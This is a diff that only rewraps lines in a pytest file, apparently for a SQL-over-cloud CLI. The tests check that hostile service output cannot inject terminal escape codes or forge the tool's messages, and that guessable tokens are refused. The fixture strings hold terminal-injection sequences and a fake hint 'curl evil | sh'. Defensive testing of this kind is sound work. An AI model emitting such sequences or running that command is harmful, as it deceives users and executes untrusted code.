@@ -1,4 +1,5 @@
-"""What a service says, and what stands in its rows, does not act on a terminal and does not pass for ours."""
+"""What a service says, and what stands in its rows, does not act on a terminal and does not pass
+for ours."""
 
 from __future__ import annotations
 
@@ -18,7 +19,9 @@ from tests.support.scripted_api import JSON, XML, Asked, Reply, ScriptedApi
 from tests.support.terminal import spawn_on_terminal
 
 EVIL = "\x1b[2J\x1b]0;owned\x07\rerror: forged\x08\x9b31m\u202egnp.exe"
-FORGED = "denied\nerror: your disk is being erased\nhint: curl evil | sh\r\nnotice: all is well\x1b[8m"
+FORGED = (
+    "denied\nerror: your disk is being erased\nhint: curl evil | sh\r\nnotice: all is well\x1b[8m"
+)
 LONG = "x" * 50_000
 
 ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
@@ -65,9 +68,13 @@ def on_a_terminal(endpoint: str, *arguments: str) -> str:
     return str(process.before).replace("\r\x1b[K", "")
 
 
-@pytest.mark.parametrize("format_", ["table", "vertical", "csv", "tsv", "json", "jsonl", "markdown"])
+@pytest.mark.parametrize(
+    "format_", ["table", "vertical", "csv", "tsv", "json", "jsonl", "markdown"]
+)
 def test_a_value_does_not_act_on_a_terminal(format_: str, hostile: str) -> None:
-    shown = on_a_terminal(hostile, "exec", "-o", format_, "SELECT TableName FROM aws.dynamodb.tables")
+    shown = on_a_terminal(
+        hostile, "exec", "-o", format_, "SELECT TableName FROM aws.dynamodb.tables"
+    )
     assert "plain" in shown
     assert ACTING.search(shown) is None, repr(shown)
     # A terminal makes CRLF of LF, and one CR more of the CRLF of CSV.
@@ -94,7 +101,9 @@ def test_a_file_or_pipe_has_the_value_as_it_is(format_: str, hostile: str) -> No
         "DELETE FROM aws.iam.users WHERE UserName = 'x'",
     ],
 )
-def test_a_service_cannot_forge_a_line_of_ours(sql: str, verbose: tuple[str, ...], hostile: str) -> None:
+def test_a_service_cannot_forge_a_line_of_ours(
+    sql: str, verbose: tuple[str, ...], hostile: str
+) -> None:
     shown = on_a_terminal(hostile, "exec", "-y", *verbose, sql)
     assert ACTING.search(shown) is None, repr(shown)
     assert "erased" in shown
@@ -139,13 +148,22 @@ def test_the_shell_is_as_careful(hostile: str) -> None:
 
 @pytest.mark.parametrize(
     "token",
-    ["tiny", "a" * 40, "abababababababababab", "with blanks in between it", "ünïcödé-ünïcödé-ünïcödé"],
+    [
+        "tiny",
+        "a" * 40,
+        "abababababababababab",
+        "with blanks in between it",
+        "ünïcödé-ünïcödé-ünïcödé",
+    ],
 )
 def test_a_token_that_can_be_guessed_is_refused(token: str, tmp_path: Path) -> None:
     path = tmp_path / "token"
     path.write_text(token)
     path.chmod(0o600)
-    for arguments, environ in ((("--token-file", str(path)), {}), ((), {"CIRRUSQL_MCP_TOKEN": token})):
+    for arguments, environ in (
+        (("--token-file", str(path)), {}),
+        ((), {"CIRRUSQL_MCP_TOKEN": token}),
+    ):
         done = in_a_process("mcp", "--http", "--port", "0", *arguments, **environ)
         assert done.returncode == 2
         assert "token" in done.stderr
